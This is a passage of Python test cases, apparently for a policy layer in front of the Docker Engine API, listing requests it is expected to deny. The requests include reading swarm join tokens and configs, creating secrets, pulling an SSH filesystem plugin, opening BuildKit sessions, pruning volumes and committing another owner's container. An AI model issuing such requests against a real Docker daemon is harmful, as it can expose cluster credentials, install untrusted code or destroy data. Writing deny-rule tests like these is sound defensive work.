    Case("swarm-join-tokens", "GET", "/v1.41/swarm", None, None, rule="no-swarm", field="path"),
    Case("service-create", "POST", "/services/create", {"Name": "x"}, rule="no-swarm", field="path"),
    Case(
        "secret-create", "POST", "/secrets/create", {"Name": "x", "Data": ""}, rule="no-swarm", field="path"
    ),
    Case("config-read", "GET", "/configs/abc", None, None, rule="no-swarm", field="path"),
    Case("nodes", "GET", "/nodes", None, None, rule="no-swarm", field="path"),
    Case(
        "plugin-pull",
        "POST",
        "/plugins/pull",
        [],
        None,
        {"remote": ["vieux/sshfs"]},
        rule="no-plugins",
        field="path",
    ),
    Case("buildkit-grpc", "POST", "/grpc", None, None, rule="no-buildkit-session", field="path"),
    Case("buildkit-session", "POST", "/session", None, None, rule="no-buildkit-session", field="path"),
    Case("prune-volumes", "POST", "/volumes/prune", None, None, rule="no-prune", field="path"),
    Case(
        "commit-not-owned",
        "POST",
        "/commit",
        None,
        None,
        {"container": [POLICY_THEIRS]},
        rule="container-not-owned",
        field="container",
    ),
    Case(
        "unknown-write-endpoint",
        "POST",
        "/containers",
        {"Image": IMAGE},
        rule="unknown-endpoint",
        field="path",
    ),
]
